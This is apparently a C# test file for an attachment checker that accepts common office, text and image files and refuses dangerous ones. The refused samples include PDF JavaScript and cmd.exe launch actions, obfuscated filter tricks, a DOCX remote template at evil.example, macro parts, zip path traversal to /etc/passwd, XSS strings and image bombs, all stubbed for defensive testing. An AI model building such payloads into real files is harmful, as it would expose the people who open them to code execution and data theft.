using System.Text;
using Heed.Ledger;
using Heed.Platform.Files;
using SkiaSharp;
using static Heed.Tests.Platform.Files.SampleFiles;

namespace Heed.Tests.Platform.Files;

/// <summary>P43: what may be attached, and what is done to it.</summary>
public sealed class FileCheckTests
{
    public static TheoryData<string, byte[]> Good =>
        new()
        {
            { "a.pdf", Pdf() },
            { "a.PDF", Pdf(more: Packed("5 0 << /Type /Page >>")) },
            { "a.docx", Docx() },
            { "a.xlsx", Xlsx() },
            { "a.odt", OpenDocument("text") },
            { "a.ods", OpenDocument("spreadsheet") },
            { "a.docx",
                Docx(("word/embeddings/Microsoft_Excel_Sheet.xlsx", "x"), ("word/_rels/document.xml.rels", "<Relationships><Relationship "
                    + "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" Target=\"https://gov.scot\" "
                    + "TargetMode=\"External\"/></Relationships>")) },
            { "a.csv", Plain("name,day\r\nÅsa,2017-06-22\r\n") },
            { "a.txt", Plain("\uFEFFPlain text, with a tab\tand\nlines.") },
            { "a.png", Picture(SKEncodedImageFormat.Png) },
            { "a.jpg", Picture(SKEncodedImageFormat.Jpeg) },
            { "a.jpeg", Picture(SKEncodedImageFormat.Jpeg) },
            { "a.webp", Picture(SKEncodedImageFormat.Webp) },
        };

    public static TheoryData<string, byte[]> Bad =>
        new()
        {
            // Another sort than the name says.
            { "a.pdf", Docx() },
            { "a.docx", Xlsx() },
            { "a.xlsx", Docx() },
            { "a.odt", OpenDocument("spreadsheet") },
            { "a.docx", Zip(("anything.txt", "x")) },
            { "a.png", Picture(SKEncodedImageFormat.Jpeg) },
            { "a.jpg", Picture(SKEncodedImageFormat.Webp) },
            { "a.webp", Plain("RIFF\0\0\0\0WEBP") },
            { "a.txt", Pdf() },
            { "a.txt", Plain("<html><script>alert(1)</script>") },
            { "a.csv", Plain("\n  <svg onload=alert(1)>") },
            { "a.txt", [0xC3, 0x28] },
            { "a.txt", Plain("nul\0") },
            { "a.txt", [] },
            // Sorts nobody may attach.
            { "a.exe", Plain("MZ") },
            { "a.html", Plain("<p>") },
            { "a.svg", Plain("<svg/>") },
            { "a.pdf.exe", Pdf() },
            { "pdf", Pdf() },
            { "a.docm", Docx() },
            { "a.gif", Plain("GIF89a") },
            { "a.zip", Zip(("a", "b")) },
            // What fetches, carries or plays something else.
            { "a.docx", Docx(("word/_rels/settings.xml.rels", "<Relationships><Relationship "
                + "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" "
                + "Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>")) },
            { "a.docx", Docx(("word/embeddings/oleObject1.bin", "x")) },
            { "a.docx", Docx(("word/embeddings/a.exe", "MZ")) },
            { "a.pdf", Pdf(more: "3 0 obj\n<< /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>\nendobj") },
            { "a.pdf", Pdf("/OpenAction << /S /GoToR /F (a) >>") },
            { "a.pdf", Pdf(more: "3 0 obj\n<< /Subtype /Movie >>\nendobj") },
            { "a.pdf", Pdf(more: Packed("4 0 << /S /Sound >>")) },
            // Two sorts at once.
            { "a.pdf", [.. Pdf(), .. Docx()] },
            { "a.pdf", [.. Plain("<html>"), .. Pdf()] },
            { "a.docx", [.. Pdf(), .. Docx()] },
            { "a.docx", [.. Docx(), .. Plain("<script>")] },
            // What runs.
            { "a.pdf", Pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>") },
            { "a.pdf", Pdf("/OpenAction << /S /#4aava#53cript /#4AS (app.alert(1)) >>") },
            { "a.pdf", Pdf("/OpenAction << /S /Launch /F (cmd.exe) >>") },
            { "a.pdf", Pdf("/Names << /EmbeddedFiles 4 0 R >>") },
            { "a.pdf", Pdf(more: Packed("5 0 << /S /JavaScript /JS (app.alert(1)) >>")) },
            { "a.pdf", Pdf("/Encrypt 7 0 R") },
            // What hides what runs: a long head, another packing, no packing, a word in a text, a form of its own kind.
            { "a.pdf", Pdf(more: Packed("5 0 << /S /JavaScript /JS (app.alert(1)) >>", $"/Note ({new string('x', 5_000)}) ")) },
            { "a.pdf",
                Pdf(more: Packed("5 0 << /S /JavaScript /JS (app.alert(1)) >>")
                    .Replace("/Filter /FlateDecode", "/Filter [/ASCIIHexDecode /FlateDecode]", StringComparison.Ordinal)) },
            { "a.pdf",
                Pdf(more: Packed("5 0 << /S /JavaScript /JS (app.alert(1)) >>")
                    .Replace("/Filter /FlateDecode", "/Filter 8 0 R", StringComparison.Ordinal)) },
            { "a.pdf",
                Pdf(more: "8 0 obj (stream) endobj 9 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj 10 0 obj (endstream) endobj") },
            { "a.pdf", Pdf(more: Packed("5 0 << /XFA 6 0 R >>")) },
            { "a.pdf", Pdf(more: "9 0 obj << /Length 4 >> stream\n") },
            { "a.docx", Docx(("word/vbaProject.bin", "x")) },
            { "a.docx", Docx(("WORD/VBAPROJECT.BIN", "x")) },
            { "a.xlsx", Xlsx(("xl/macrosheets/sheet1.xml", "x")) },
            { "a.xlsx", Xlsx(("xl/activeX/activeX1.bin", "x")) },
            { "a.odt", OpenDocument("text", ("Basic/Standard/Module1.xml", "x")) },
            { "a.docx", Docx(("../../etc/passwd", "x")) },
            { "a.docx", Docx(("/etc/passwd", "x")) },
            { "a.docx", Docx((@"word\..\x", "x")) },
            // Bombs.
            { "a.png", Bomb(50_000, 50_000) },
            { "a.png", Bomb(int.MaxValue, int.MaxValue) },
            { "a.png", Bomb(0, 10) },
            { "a.png", Picture(SKEncodedImageFormat.Png)[..60] },
            { "a.docx", Zip([.. Enumerable.Range(0, 5_001).Select(i => ($"p{i}", ""))]) },
        };

    [Theory]
    [MemberData(nameof(Good))]
    public void What_is_on_the_list_is_taken_in(string name, byte[] bytes)
    {
        var accepted = FileCheck.Accept(name, bytes);
        Assert.Equal(FileKind.OfName(name), accepted.Kind);
        // What was taken in once is taken in again.
        Assert.Equal(accepted.Kind, FileCheck.Accept(accepted.Name, accepted.Bytes).Kind);
    }

    [Theory]
    [MemberData(nameof(Bad))]
    public void What_is_not_or_lies_or_runs_is_refused_with_a_sentence(string name, byte[] bytes)
    {
        var refused = Assert.Throws<RefusedException>(() => FileCheck.Accept(name, bytes));
        Assert.Equal(FileCheck.Refusal, refused.Code);
        Assert.EndsWith(".", refused.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_file_of_more_than_25_MB_is_refused() =>
        Assert.Contains("25 MB", Assert.Throws<RefusedException>(() => FileCheck.Accept("a.txt", new byte[FileCheck.Largest + 1])).Message,
            StringComparison.Ordinal);

    [Fact]
    public void A_bomb_costs_no_memory()
    {
        var before = GC.GetTotalAllocatedBytes(precise: true);
        var bomb = Bomb(50_000, 50_000);
        for (var i = 0; i < 50; i++)
            Assert.Throws<RefusedException>(() => FileCheck.Accept("a.png", bomb));
        Assert.InRange(GC.GetTotalAllocatedBytes(precise: true) - before, 0, 20_000_000);
    }

    [Theory]
    [InlineData(1, 40, 20)]
    [InlineData(3, 40, 20)]
    [InlineData(6, 20, 40)]
    [InlineData(8, 20, 40)]
    public void Where_a_picture_was_taken_is_gone_and_it_stands_upright(byte held, int width, int height)
    {
        const string place = "55.9533N 3.1883W";
        var sent = TelephonePicture(held, place);
        Assert.Contains(place, Encoding.Latin1.GetString(sent), StringComparison.Ordinal);

        var kept = FileCheck.Accept("IMG_0001.JPG", sent).Bytes;

        Assert.DoesNotContain(place, Encoding.Latin1.GetString(kept), StringComparison.Ordinal);
        Assert.DoesNotContain("Exif", Encoding.Latin1.GetString(kept), StringComparison.Ordinal);
        using var picture = SKBitmap.Decode(kept);
        Assert.Equal((width, height), (picture.Width, picture.Height));
        var (x, y) = held switch { 1 => (2, 2), 3 => (width - 3, height - 3), 6 => (width - 3, 2), _ => (2, height - 3) };
        var corner = picture.GetPixel(x, y);
        Assert.True(corner.Red > 200 && corner.Green < 90, $"The corner at {x},{y} is {corner}.");
    }

    [Fact]
    public void What_hangs_on_behind_a_picture_is_gone()
    {
        byte[] sent = [.. Picture(SKEncodedImageFormat.Png), .. Docx(("word/canary.xml", "canary"))];
        Assert.DoesNotContain("canary", Encoding.Latin1.GetString(FileCheck.Accept("a.png", sent).Bytes), StringComparison.Ordinal);
    }
}
